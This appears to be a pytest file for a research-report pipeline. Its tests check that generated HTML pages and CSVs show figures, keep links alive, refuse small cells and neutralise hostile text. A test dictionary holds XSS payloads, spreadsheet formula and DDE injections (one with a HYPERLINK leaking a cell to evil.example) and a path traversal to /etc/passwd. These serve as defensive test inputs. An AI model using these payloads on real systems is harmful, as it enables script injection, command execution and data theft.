"""The pages a reviewer opens: figures in place, links alive, small cells refused, data text inert.

* ``test_hostile_names_reach_reports_inert`` (slow, one ``make reproduce``): a synthetic scenario
  whose college and major names are HTML, script, spreadsheet formulas, path traversal and very long
  strings runs through ``make reproduce DATA=…``; every page must show its figures, every link must
  resolve offline, no hostile string may reach an HTML page unescaped or a CSV cell unneutralised.
* ``test_shipped_reports_are_complete``: the same page checks on ``reports/`` when ``make
  reproduce`` has been run (skips otherwise).
* ``test_notebook_publishing_a_small_cell_fails_the_build``: a notebook that displays a count of 3
  makes the report build fail, naming the table, row, column and value.
"""

from __future__ import annotations

import base64
import csv
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from talentlab import report
from talentlab.report import publish
from talentlab.report.notebook_runner import execute_notebook
from tests.conftest import PROJECT_ROOT

#: Figures each notebook page must show in place (at least; every PNG in its figures/ folder).
MIN_FIGURES = {"00_data_overview": 4, "10_zhuhai_case_evaluation": 6, "20_six_case_comparison": 4}

HOSTILE = {
    "html": '<img src=x onerror=alert(1)>',
    "script": '<script>alert("pwned")</script>',
    "attribute": '" onmouseover="alert(2)" x="',
    "formula": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "dde": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C notepad'!A0",
    "traversal": "../../../../etc/passwd",
    "long": "Very long major name 超长专业名称 " + "x" * 600,
}
# raw tags; an attribute breaking out of quotes is caught by publish.executable_content, which parses
# every tag's attributes (a quote in element text is harmless)
EXECUTABLE_MARKERS = ["<img src=x", "<script>alert"]


# ------------------------------------------------------------------------------------------------
# page checks shared by the tests
# ------------------------------------------------------------------------------------------------
def embedded_pngs(html: str) -> list[bytes]:
    return [base64.b64decode(m) for m in
            re.findall(r'<img[^>]+src="data:image/png;base64,([A-Za-z0-9+/=\s]+)"', html)]


def figure_counts(report_dir: Path) -> dict[str, int]:
    """Figures shown per notebook page; fails when a page misses one of its figure files, shows a
    ``PosixPath`` repr instead, or shows fewer figures than :data:`MIN_FIGURES`."""
    counts = {}
    for name, minimum in MIN_FIGURES.items():
        page = report_dir / name / f"{name}.html"
        nb = report_dir / name / f"{name}.ipynb"
        assert page.exists(), f"missing page {page}"
        html = page.read_text(encoding="utf-8")
        assert "PosixPath(" not in html, f"{page.name} shows a PosixPath repr instead of a figure"
        assert "PosixPath(" not in nb.read_text(encoding="utf-8"), f"{nb.name}: PosixPath repr"
        shown = embedded_pngs(html)
        files = sorted((report_dir / name / "figures").glob("*.png"))
        missing = [f.name for f in files if f.read_bytes() not in shown]
        assert not missing, f"{page.name} does not show {missing}"
        assert len(shown) >= minimum, f"{page.name} shows {len(shown)} figures, expected {minimum}"
        outputs = json.loads(nb.read_text(encoding="utf-8"))
        n_png = sum("image/png" in o.get("data", {}) for c in outputs["cells"]
                    for o in c.get("outputs", []))
        assert n_png == len(shown), f"{nb.name}: {n_png} PNG outputs, {len(shown)} on the page"
        counts[name] = len(shown)
    return counts


#: What a table cell of a notebook page must not show: a missing value as pandas prints it.
RAW_MISSING = frozenset({"NaN", "nan", "<NA>", "None", "NaT"})


def table_cell_texts(report_dir: Path) -> dict[str, list[str]]:
    """The text of every table cell of each notebook page (HTML entities decoded)."""
    import html as html_lib

    out = {}
    for page in sorted(report_dir.glob("[0-9][0-9]_*/*.html")):
        text = page.read_text(encoding="utf-8")
        out[page.name] = [html_lib.unescape(" ".join(re.sub(r"<[^>]*>", "", c).split()))
                          for c in re.findall(r"<td\b[^>]*>(.*?)</td>", text, re.S)]
    return out


def assert_tables_readable(report_dir: Path) -> list[str]:
    """No notebook page shows a raw missing value in a table; returns the cells that end in an
    ellipsis (text pandas cut at ``display.max_colwidth``)."""
    truncated = []
    for page, cells in table_cell_texts(report_dir).items():
        raw = sorted({c for c in cells if c in RAW_MISSING})
        assert not raw, f"{page}: table cells show {raw}"
        truncated += [f"{page}: {c[-60:]!r}" for c in cells if c.endswith(("...", "…"))]
    return truncated


def assert_one_parameter_block(report_dir: Path) -> None:
    for name in MIN_FIGURES:
        nb = json.loads((report_dir / name / f"{name}.ipynb").read_text(encoding="utf-8"))
        tags = [set(c["metadata"].get("tags", [])) for c in nb["cells"]]
        assert sum("parameters" in t for t in tags) == 1, name
        assert not any("injected-parameters" in t for t in tags), name
        block = "".join(nb["cells"][[i for i, t in enumerate(tags) if "parameters" in t][0]]
                        ["source"])
        assert "papermill set:" in block and "build/" not in block, block


def assert_pages_publishable(report_dir: Path) -> None:
    assert publish.broken_links(report_dir) == []
    assert publish.executable_content(report_dir) == []
    assert publish.formula_problems(report_dir) == []
    problems, summary = publish.disclosure_problems(report_dir)
    assert problems == [] and summary["checked_tables"] > 10


# ------------------------------------------------------------------------------------------------
# the hostile scenario through make reproduce
# ------------------------------------------------------------------------------------------------
def hostile_scenario(out: Path) -> dict[str, str]:
    """A small synthetic scenario whose college and major names are hostile strings."""
    from talentlab import simulate

    simulate.generate("paper_claims", seed=11, out_dir=out, cohort_size_min=25,
                      cohort_size_max=40)
    grads = pd.read_csv(out / "graduates.csv", dtype=str, keep_default_na=False)
    majors = sorted(set(grads["major"]))
    values = [v for k, v in HOSTILE.items() if k != "long"]
    mapping = {m: f"{values[i % len(values)]} #{i}" for i, m in enumerate(majors)}
    mapping[majors[-1]] = HOSTILE["long"]  # ~630 characters
    college = {c: HOSTILE["formula"] + " " + HOSTILE["script"] + HOSTILE["long"]
               for c in set(grads["college"])}
    for name in ("graduates", "programmes"):
        path = out / f"{name}.csv"
        table = pd.read_csv(path, dtype=str, keep_default_na=False)
        table["major"] = table["major"].map(mapping)
        table["college"] = table["college"].map(college)
        table.to_csv(path, index=False, lineterminator="\n", quoting=csv.QUOTE_MINIMAL)
    meta = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
    meta["scenario"] = HOSTILE["html"]  # shown in the banner of every page
    (out / "datapackage.json").write_text(json.dumps(meta, ensure_ascii=False, indent=2),
                                          encoding="utf-8")
    return mapping


def _check_no_hostile_text(report_dir: Path) -> None:
    for page in report_dir.rglob("*.html"):
        text = page.read_text(encoding="utf-8")
        for marker in EXECUTABLE_MARKERS:
            assert marker not in text, f"{page.name}: unescaped {marker!r}"
        assert "../../../../etc/passwd" not in re.findall(r'(?:href|src)="([^"]*)"', text)
    for md in report_dir.rglob("*.md"):
        text = md.read_text(encoding="utf-8")
        for marker in EXECUTABLE_MARKERS:
            assert marker not in text, f"{md.name}: unescaped {marker!r}"
    for path in report_dir.rglob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as fh:  # published CSVs carry a BOM
            for row in csv.reader(fh):
                for cell in row:
                    if cell[:1] in ("=", "+", "@") or (cell[:1] == "-" and "cmd|" in cell):
                        pytest.fail(f"{path.name}: formula cell {cell[:40]!r}")


@pytest.mark.slow
@pytest.mark.timeout(1500)
def test_hostile_names_reach_reports_inert(tmp_path):
    if shutil.which("make") is None:
        pytest.skip("make is not installed")
    data = tmp_path / "hostile"
    hostile_scenario(data)
    reports = tmp_path / "reports"
    env = {**os.environ, "PYTHONHASHSEED": "0"}
    done = subprocess.run(
        ["make", "--no-print-directory", "reproduce", f"DATA={data}", f"REPORT_DIR={reports}",
         f"PROCESSED={tmp_path / 'processed'}", "N_BOOTSTRAP=99"],
        cwd=PROJECT_ROOT, capture_output=True, text=True, env=env)
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    assert "without encryption" not in done.stderr
    counts = figure_counts(reports)
    assert_one_parameter_block(reports)
    assert_pages_publishable(reports)
    assert_tables_readable(reports)
    _check_no_hostile_text(reports)
    # the hostile names did reach the pages, as text
    overview = (reports / "00_data_overview" / "00_data_overview.html").read_text(encoding="utf-8")
    assert "&lt;img src=x onerror=alert(1)&gt;" in overview
    index = (reports / "index.html").read_text(encoding="utf-8")
    assert "&lt;img src=x onerror=alert(1)&gt;" in index      # the banner
    findings = (reports / "findings.csv").read_text(encoding="utf-8")
    assert "<script" not in findings or "'<script" in findings
    # the report step again over the same folder (a second run) writes the same bytes: the
    # disclosure summary counts findings.csv whether or not an earlier run left one
    first = {p.name: p.read_bytes() for p in (reports / "index.html", reports / "findings.md",
                                              reports / "findings.csv")}
    again = subprocess.run(
        [sys.executable, "-m", "talentlab.cli", "report", "--reports", str(reports),
         "--processed", str(tmp_path / "processed"), "--min-cell", "10"],
        cwd=PROJECT_ROOT, capture_output=True, text=True, env=env)
    assert again.returncode == 0, again.stdout[-3000:] + again.stderr[-3000:]
    assert {name: (reports / name).read_bytes() for name in first} == first
    print("figures per page:", counts)
    from tests.test_browser import browser_check, find_chromium

    if find_chromium():  # what a reviewer's browser shows, where Chromium is installed
        print("browser:", browser_check(reports, tmp_path / "shots"))
    else:
        print("Chromium is not installed: browser check of the hostile report skipped")


# ------------------------------------------------------------------------------------------------
# the shipped report, when built
# ------------------------------------------------------------------------------------------------
def test_shipped_reports_are_complete():
    reports = PROJECT_ROOT / "reports"
    if not (reports / "index.html").exists():
        pytest.skip("reports/ is not built (run make reproduce)")
    figure_counts(reports)
    assert_one_parameter_block(reports)
    assert_pages_publishable(reports)
    index = (reports / "index.html").read_text(encoding="utf-8")
    # the summary by section comes first, the testable claims before the folded rest
    assert index.index('id="summary"') < index.index('id="testable"') < index.index(
        'id="not-testable"')
    assert "<details" in index
    truncated = assert_tables_readable(reports)
    # the notebooks show text whole (pd.set_option("display.max_colwidth", None))
    assert not truncated, f"{len(truncated)} table cells cut with an ellipsis, e.g. {truncated[0]}"


# ------------------------------------------------------------------------------------------------
# a notebook that tries to publish a small cell
# ------------------------------------------------------------------------------------------------
def _small_cell_notebook(path: Path) -> None:
    import nbformat
    from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

    nb = new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3",
                                 "language": "python"}
    params = new_code_cell("output_dir = '.'")
    params.metadata["tags"] = ["parameters"]
    nb.cells = [
        new_markdown_cell("# A researcher's own notebook"), params,
        new_code_cell("import pandas as pd\n"
                      "table = pd.DataFrame({'major': ['IC Design', 'Logistics'], 'n': [3, 240],"
                      " 'employment_rate': [0.67, 0.91]})\n"
                      "table"),
    ]
    nbformat.write(nb, path)


@pytest.mark.slow
def test_notebook_publishing_a_small_cell_fails_the_build(tmp_path):
    pytest.importorskip("papermill")
    reports = tmp_path / "reports"
    out = reports / "30_my_analysis"
    out.mkdir(parents=True)
    src = tmp_path / "30_my_analysis.ipynb"
    _small_cell_notebook(src)
    execute_notebook(str(src), str(out / "30_my_analysis.run.ipynb"),
                               parameters={"output_dir": str(out)}, kernel_name="python3",
                               progress_bar=False)
    report.finalize_notebook(out / "30_my_analysis.run.ipynb", out / "30_my_analysis.ipynb")
    from talentlab.data.io import process

    # the shipped scenario, processed here (a fresh clone has no data/processed yet)
    processed = process(PROJECT_ROOT / "data/raw/synthetic/paper_claims", tmp_path / "processed")
    with pytest.raises(publish.PublicationError) as err:
        report.build_report(reports, processed, check_privacy=False)
    msg = str(err.value)
    assert "30_my_analysis/30_my_analysis.ipynb cell cell-2 output 1 table 1" in msg
    assert "major=IC Design" in msg and "column 'n' = 3" in msg and "threshold 10" in msg
    assert not (reports / "MANIFEST.sha256").exists()
    assert not (reports / "index.html").exists()
    # through the command line: exit code 1 and the same message, no traceback
    done = subprocess.run([sys.executable, "-m", "talentlab.cli", "report", "--reports",
                           str(reports), "--processed", str(processed)],
                          capture_output=True, text=True, cwd=PROJECT_ROOT)
    assert done.returncode == 1 and "column 'n' = 3" in done.stderr
    assert "Traceback" not in done.stderr


# ------------------------------------------------------------------------------------------------
# make lab as root and as a user
# ------------------------------------------------------------------------------------------------
def test_make_lab_allows_root_only_for_root():
    if shutil.which("make") is None:
        pytest.skip("make is not installed")
    done = subprocess.run(["make", "-n", "--no-print-directory", "lab", "SETUP="],
                          cwd=PROJECT_ROOT, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    line = next(x for x in done.stdout.splitlines() if "jupyter lab" in x)
    assert ("--allow-root" in line) == (os.getuid() == 0), line
    assert "--KernelManager.transport=ipc" in line
    if os.getuid() == 0 and shutil.which("setpriv"):
        # as an ordinary user the flag is not passed (make evaluates `id -u` as that user)
        user = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
                               "make", "-n", "--no-print-directory", "-f",
                               str(PROJECT_ROOT / "Makefile"), "-C", str(PROJECT_ROOT), "lab",
                               "SETUP="], capture_output=True, text=True)
        if user.returncode == 0:
            line = next(x for x in user.stdout.splitlines() if "jupyter lab" in x)
            assert "--allow-root" not in line, line
